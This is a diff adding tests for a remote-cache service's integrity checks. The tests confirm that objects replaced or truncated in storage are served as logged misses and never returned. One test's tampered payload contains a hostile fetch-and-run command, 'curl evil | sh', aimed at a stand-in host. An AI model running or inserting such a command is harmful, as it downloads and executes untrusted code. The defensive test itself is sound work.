@@ -1,15 +1,22 @@
-"""The live remote-cache API: GET/PUT by Inductor's key, on both storage backends and both databases."""
+"""The live remote-cache API: GET/PUT by Inductor's key, on both storage backends and both databases.
+
+Issue 15, item 3: a GET serves only bytes that are the value PUT (the object replaced in the blob
+folder or the bucket, loose, in a pack or as several frames: a counted, logged miss; a bomb:
+tests/service/test_bounded_decode.py), with X-Cachesvc-Sha256 on every 200.
+"""
 from __future__ import annotations
 
 import datetime as dt
+import os
 
 import pytest
+import zstandard
 from sqlalchemy import select, update
 
 from cachesvc import collect
 from cachesvc.models import Blob, RemoteCacheItem
-from cachesvc.storage import blob_key
-from tests.helpers import ENV, publish, sha
+from cachesvc.storage import blob_key, pack_key
+from tests.helpers import ENV, publish, publish_body, sha
 
 FX_KEY = "pt2:fx-graph-v1::fk3xqz7ab2c:c1"
 URL = f"/api/v1/remote-cache/fx-graph/{FX_KEY}"
@@ -163,3 +170,94 @@ def test_a_lost_object_is_a_miss_and_a_new_put_stores_it_again(app, client, stor
     assert client.get(URL, query_string=env()).status_code == 404
     assert client.put(URL, query_string=env(), data=b"value").status_code == 201
     assert client.get(URL, query_string=env()).data == b"value"
+
+
+# -- issue 15, item 3: what a GET serves is what was PUT ---------------------------------------------
+
+def corrupt_count(client) -> str:
+    text = client.get("/metrics").data.decode()
+    line = [ln for ln in text.splitlines()
+            if ln.startswith('cachesvc_remote_cache_requests_total{cache="fx-graph",result="corrupt"}')]
+    return line[0].split()[-1] if line else "0"
+
+
+def replace_object(storage, tmp_path, key: str, data: bytes) -> None:
+    """What someone with write access to the blob folder or the bucket can do."""
+    path = tmp_path / "replacement"
+    path.write_bytes(data)
+    storage.put_file(key, str(path))
+
+
+def test_every_hit_carries_the_sha256_of_its_body(client):
+    value = b'{"data": "' + b"x" * 3000 + b'"}'
+    client.put(URL, query_string=env(), data=value)
+    got = client.get(URL, query_string=env())
+    assert got.status_code == 200 and got.headers["X-Cachesvc-Sha256"] == sha(got.data) == sha(value)
+
+
+@pytest.mark.parametrize("replacement", ["another value", "same length, other bytes"])
+def test_a_replaced_object_is_a_counted_logged_miss_and_the_next_put_heals_it(app, client, storage, tmp_path,
+                                                                             caplog, replacement):
+    value = b'{"graph": "' + b"def f(x): return x + 1\n" * 200 + b'"}'
+    assert client.put(URL, query_string=env(), data=value).status_code == 201
+    key = blob_key(sha(value), "zstd")
+    with storage.open(key) as body:
+        stored = body.read()
+    evil = b'{"graph": "import os; os.system(\'curl evil | sh\')"}'
+    if replacement == "another value":
+        data = zstandard.ZstdCompressor(level=3).compress(evil)
+    else:
+        data = zstandard.ZstdCompressor(level=3).compress(evil.ljust(len(value), b" "))[:len(stored)]
+        data = data.ljust(len(stored), b"\0")
+    replace_object(storage, tmp_path, key, data)
+
+    with caplog.at_level("WARNING", logger="cachesvc.remote_cache"):
+        miss = client.get(URL, query_string=env())
+    assert miss.status_code == 404 and miss.json["error"]["code"] == "not_found"
+    assert b"evil" not in miss.data and "X-Cachesvc-Sha256" not in miss.headers
+    assert corrupt_count(client) == "1.0"
+    logged = [r.getMessage() for r in caplog.records if "corrupt" in r.getMessage()]
+    assert logged and FX_KEY in logged[0] and sha(value) in logged[0]
+    with app.extensions["cachesvc"].db.session() as s:
+        assert s.scalars(select(RemoteCacheItem)).one().hit_count == 0
+
+    assert client.put(URL, query_string=env(), data=value).status_code == 201  # Inductor compiled and PUT again
+    healed = client.get(URL, query_string=env())
+    assert healed.status_code == 200 and healed.data == value and corrupt_count(client) == "1.0"
+    with app.extensions["cachesvc"].db.session() as s, storage.open(key) as body:
+        assert s.get(Blob, sha(value)).stored_sha256 == sha(body.read())
+
+
+def test_a_value_in_a_replaced_pack_is_a_miss_and_the_next_put_stores_it_loose(app, client, storage, tmp_path):
+    from tests.service.test_packs import FILES, publish_packed
+
+    resp, data, members = publish_packed(client, FILES)
+    value = FILES["c.json"]  # a pack member: the item's blob lies in the pack
+    assert client.put(URL, query_string=env(), data=value).status_code in (200, 201)
+    assert client.get(URL, query_string=env()).data == value
+    member = next(m for m in members if m["sha256"] == sha(value))
+    tampered = bytearray(data)
+    tampered[member["offset"]] ^= 0x20  # '{' -> '[': same length, another value
+    replace_object(storage, tmp_path, pack_key(sha(data)), bytes(tampered))
+    assert client.get(URL, query_string=env()).status_code == 404
+    assert corrupt_count(client) == "1.0"
+    assert client.put(URL, query_string=env(), data=value).status_code == 201
+    assert client.get(URL, query_string=env()).data == value
+    with app.extensions["cachesvc"].db.session() as s:
+        assert s.get(Blob, sha(value)).pack_digest is None
+
+
+def test_a_value_stored_as_several_frames_is_read_whole_and_checked(app, client, storage, tmp_path):
+    value = b"".join(bytes([i]) * 70_000 + os.urandom(1000) for i in range(3))
+    frames = [zstandard.ZstdCompressor(level=3, write_checksum=True, write_content_size=True).compress(
+        value[i:i + 71_000]) for i in range(0, len(value), 71_000)]
+    answer = client.post("/api/v1/versions", json=publish_body({"big.h.gch": value})).json
+    put = client.put(f"/api/v1/blobs/{sha(value)}?encoding=zstd&version={answer['version']['id']}",
+                     data=b"".join(frames))  # what publish writes for a large blob: independent frames
+    assert put.status_code == 201, put.json
+    assert client.post(f"/api/v1/versions/{answer['version']['id']}/commit", json={}).status_code == 200
+    assert client.put(URL, query_string=env(), data=value).status_code == 201  # the blob is reused
+    got = client.get(URL, query_string=env())
+    assert got.status_code == 200 and got.data == value and got.headers["X-Cachesvc-Sha256"] == sha(value)
+    replace_object(storage, tmp_path, blob_key(sha(value), "zstd"), b"".join(frames[:-1]))  # a frame cut off
+    assert client.get(URL, query_string=env()).status_code == 404 and corrupt_count(client) == "1.0"
